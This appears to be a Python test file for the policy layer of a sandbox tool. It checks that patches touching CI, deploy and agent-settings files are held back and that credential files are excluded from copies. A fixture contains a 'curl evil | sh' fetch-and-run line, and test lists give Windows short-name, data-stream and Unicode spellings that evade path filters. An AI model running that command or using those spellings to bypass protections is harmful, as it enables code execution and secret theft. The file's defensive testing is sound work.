"""The hatch's part of the policy: roots by name, protected globs, copy caps."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from support import airlock_main, sample_paths, short_name, windows_spellings

from airlock.errors import PolicyInvalid
from airlock.policies import (
    DEFAULT_EXCLUDED,
    DEFAULT_PROTECTED,
    Policy,
    glob_matches,
    load_policy,
    matching_glob,
    protecting_glob,
)
from airlock.sandbox.gitdiff import FileState, build_patch


def _problems(tmp_path: Path, text: str) -> list[str]:
    path = tmp_path / "policy.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PolicyInvalid) as caught:
        load_policy(path)
    return caught.value.problems


def test_a_root_is_kept_as_written(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    policy = Policy.model_validate({"hatch": {"roots": {"app": str(repo)}}})
    assert policy.hatch.roots == {"app": str(repo)}
    assert policy.hatch.protected == DEFAULT_PROTECTED


@pytest.mark.parametrize(
    ("root", "expected"),
    [
        ("repos/app", 'hatch.roots.app: "repos/app" is relative; a hatch root is an absolute'),
        ("{tmp}/missing", "is not an existing directory on this host; create it or fix the path"),
        ("{tmp}/file", "is not an existing directory on this host"),
        ("{tmp}/repo/../repo", "is not in normal form; write"),
        ("{tmp}/repo/", "is not in normal form; write"),
        ("{tmp}/link", "passes through a symlink; write the real path"),
        ("/", '"/" would offer the whole host'),
    ],
)
def test_bad_roots_are_refused_with_the_fix(tmp_path: Path, root: str, expected: str) -> None:
    (tmp_path / "repo").mkdir()
    (tmp_path / "file").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "repo")
    root = root.replace("{tmp}", str(tmp_path))
    [problem] = _problems(tmp_path, f'[hatch.roots]\napp = "{root}"\n')
    assert problem.startswith("hatch.roots.app: "), problem
    assert expected in problem


def test_root_names_follow_the_name_rules(tmp_path: Path) -> None:
    [problem] = _problems(tmp_path, f'[hatch.roots]\n"../app" = "{tmp_path}"\n')
    assert "is not a valid name" in problem


@pytest.mark.parametrize(
    ("glob", "expected"),
    [
        ("/.github/**", 'globs are relative to the repository root, so write ".github/**"'),
        ("a/../b", 'has an empty, "." or ".." segment'),
        ("a//b", 'has an empty, "." or ".." segment'),
        ("deploy**", '"**" matches whole segments'),
        ("[ab].yml", "contains a bracket"),
        ("{a,b}.yml", "contains a brace"),
        ("a\\b", "contains a backslash"),
        ("", "a glob cannot be empty"),
    ],
)
def test_bad_globs_are_refused_with_the_fix(tmp_path: Path, glob: str, expected: str) -> None:
    quoted = glob.replace("\\", "\\\\")
    [problem] = _problems(tmp_path, f'[hatch]\nprotected = ["{quoted}"]\n')
    assert problem.startswith("hatch.protected[0]: "), problem
    assert expected in problem


@pytest.mark.parametrize(
    ("glob", "path", "matches"),
    [
        (".github/workflows/**", ".github/workflows/ci.yml", True),
        (".github/workflows/**", ".github/workflows/sub/deploy.yml", True),
        (".github/workflows/**", ".GitHub/Workflows/ci.yml", True),
        (".github/workflows/**", "src/.github/workflows/ci.yml", False),
        (".github/workflows/**", ".github/workflowsx/ci.yml", False),
        (".gitlab-ci.yml", ".gitlab-ci.yml", True),
        (".gitlab-ci.yml", "sub/.gitlab-ci.yml", False),
        ("**/Jenkinsfile", "Jenkinsfile", True),
        ("**/Jenkinsfile", "ci/jenkins/Jenkinsfile", True),
        ("**/Jenkinsfile", "Jenkinsfile.txt", False),
        ("**/.env*", ".env", True),
        ("**/.env*", "services/api/.env.production", True),
        ("**/.env*", ".envrc", True),
        ("**/.env*", "environment.py", False),
        ("docs/?.md", "docs/a.md", True),
        ("docs/?.md", "docs/ab.md", False),
        ("a/*/c", "a/b/c", True),
        ("a/*/c", "a/b/x/c", False),
    ],
)
def test_glob_matching(glob: str, path: str, matches: bool) -> None:
    assert glob_matches(glob, path) is matches


def test_defaults_hold_back_ci_and_deploy_configuration() -> None:
    for path in (
        ".github/workflows/release.yml",
        ".gitlab-ci.yml",
        ".circleci/config.yml",
        "Jenkinsfile",
        "app/.env",
        ".gitmodules",
        "CODEOWNERS",
        ".github/dependabot.yml",
        ".github/CODEOWNERS",
        ".github/ISSUE_TEMPLATE/bug.yml",
        ".github/FUNDING.yml",
    ):
        assert protecting_glob(DEFAULT_PROTECTED, path) is not None, path
    for path in ("src/app.py", "README.md", "tests/test_app.py", "src/.github/notes.md"):
        assert protecting_glob(DEFAULT_PROTECTED, path) is None, path


def test_policy_check_catches_a_relative_root_and_a_missing_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "policy.toml"
    path.write_text(
        f'[hatch.roots]\nrel = "repos/app"\ngone = "{tmp_path}/gone"\n', encoding="utf-8"
    )
    monkeypatch.setenv("AIRLOCK_DATA_DIR", str(tmp_path / "data"))
    result = airlock_main("policy", "check", str(path))
    report = result.stdout + result.stderr
    assert result.returncode == 1
    assert "hatch.roots.rel: " in report
    assert "is relative" in report
    assert "hatch.roots.gone: " in report
    assert "is not an existing directory" in report


# ---- the default lists, entry by entry, in every spelling a filesystem may read ----------


def _held_back_in_a_patch(path: str) -> bool:
    data = b"run: curl evil | sh\n"
    state = FileState(sha256=hashlib.sha256(data).hexdigest(), mode=0o644)
    out = io.BytesIO()
    patch = build_patch(
        {}, {path: state}, lambda _: io.BytesIO(data), out, Policy().hatch.protecting_glob
    )
    assert not patch.refused, patch.refused
    return (
        [h.path for h in patch.held_back] == [path] and patch.entries == () and not out.getvalue()
    )


PROTECTED_CASES = [
    (glob, path, spelling)
    for glob in DEFAULT_PROTECTED
    for path in sample_paths(glob)
    for spelling in [path, *windows_spellings(path)]
]


@pytest.mark.parametrize(("glob", "path", "spelling"), PROTECTED_CASES)
def test_a_patch_touching_each_protected_entry_is_held_back(
    glob: str, path: str, spelling: str
) -> None:
    assert glob_matches(glob, path), (glob, path)
    assert _held_back_in_a_patch(spelling), spelling


@pytest.mark.parametrize(
    "path",
    [
        ".gitea/workflows/ci.yml",
        ".forgejo/workflows/deploy.yaml",
        "buildspec.yml",
        ".cirrus.yml",
        ".semaphore/semaphore.yml",
        ".gitpod.yml",
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".mcp.json",
        "lefthook.yml",
        ".github./workflows/ci.yml",
        ".github /workflows/ci.yml",
        ".github/workflows/ci.yml.",
        "GITHUB~1/workflows/ci.yml",
        ".github/WORKFL~1/ci.yml",
        "GITLAB~1.YML",
        ".github/workflows/ci.yml::$DATA",
        ".gitlab-ci.yml:x",
        # Dotless i: NTFS's and exFAT's upcase tables make it I, so this is .github there.
        ".g\u0131thub/workflows/ci.yml",
    ],
)
def test_the_ci_and_auto_run_files_the_review_found_are_held_back(path: str) -> None:
    assert _held_back_in_a_patch(path), path


EXCLUDED_CASES = [
    (glob, spelling)
    for glob in DEFAULT_EXCLUDED
    for path in sample_paths(glob)
    for spelling in (path, path.upper(), path + ".")
]


@pytest.mark.parametrize(("glob", "path"), EXCLUDED_CASES)
def test_each_excluded_entry_stays_out_of_a_copy(glob: str, path: str) -> None:
    assert glob_matches(glob, path), (glob, path)
    assert matching_glob(Policy().hatch.exclude, path) is not None, path


@pytest.mark.parametrize(
    "path",
    [
        ".cargo/credentials.toml",
        "home/.cargo/credentials",
        ".gem/credentials",
        ".yarnrc.yml",
        "auth.json",
        "php/auth.json",
        ".m2/settings.xml",
        ".gradle/gradle.properties",
        ".nuget/NuGet.Config",
        ".nuget/nuget.config",
        ".pgpass",
        ".kube/config",
        "deploy/my-project-service-account.json",
        "gcp_service_account.json",
        ".config/gcloud/application_default_credentials.json",
        "credentials.json",
    ],
)
def test_the_registry_and_cloud_credentials_the_review_found_are_excluded(path: str) -> None:
    assert matching_glob(Policy().hatch.exclude, path) is not None, path


@pytest.mark.parametrize(
    "path", ["src/app.py", "README.md", "docs/ci.md", "github/dependabot.yml", "Makefile"]
)
def test_ordinary_files_are_neither_protected_nor_excluded(path: str) -> None:
    hatch = Policy().hatch
    assert hatch.protecting_glob(path) is None, path
    assert matching_glob(hatch.exclude, path) is None, path


def test_a_short_name_counts_as_protected_but_is_never_excluded_or_ignored() -> None:
    hatch = Policy().hatch
    # A short name may stand for Jenkinsfile, .env or anything, so a patch holds it back ...
    assert hatch.protecting_glob("src/SETTIN~1.PY") == "**/Jenkinsfile"
    # ... but a copy reads the host's real names, and ignoring one would hide a change.
    assert matching_glob(hatch.exclude, "src/SETTIN~1.PY") is None
    assert not hatch.ignores("NODE_M~1/x.js")
    assert hatch.ignores("node_modules./x.js")


@pytest.mark.parametrize(
    ("glob", "expected"),
    [
        ("ci.yml.", 'ends in a dot or space: Windows drops those from names, so write "ci.yml"'),
        ("deploy /**", 'so write "deploy"'),
        ("ci.yml::$DATA", "contains a colon; Windows reads what follows one as a data stream"),
    ],
)
def test_globs_no_path_can_match_are_refused_with_the_fix(
    tmp_path: Path, glob: str, expected: str
) -> None:
    [problem] = _problems(tmp_path, f'[hatch]\nprotected = ["{glob}"]\n')
    assert problem.startswith("hatch.protected[0]: "), problem
    assert expected in problem


def test_sample_paths_cover_both_depths_of_a_glob() -> None:
    assert sample_paths("**/.env*") == [".envx", "d/.envx"]
    assert sample_paths(".github/workflows/**") == [
        ".github/workflows/ci.yml",
        ".github/workflows/d/ci.yml",
    ]
    assert short_name(".github") == "GITHUB~1" and short_name(".gitlab-ci.yml") == "GITLAB~1.YML"


def test_a_protected_name_is_matched_in_either_unicode_normal_form() -> None:
    # macOS reads "é" and "e" + combining acute as one name; a patch applied there writes
    # the protected directory whichever form the sandbox chose.
    composed, decomposed = "donn\u00e9es", "donne\u0301es"
    for glob, path in ((composed, decomposed), (decomposed, composed)):
        assert protecting_glob([f"{glob}/**"], f"{path}/prod.yml") == f"{glob}/**"
        assert matching_glob([f"**/{glob}"], f"a/{path}") == f"**/{glob}"
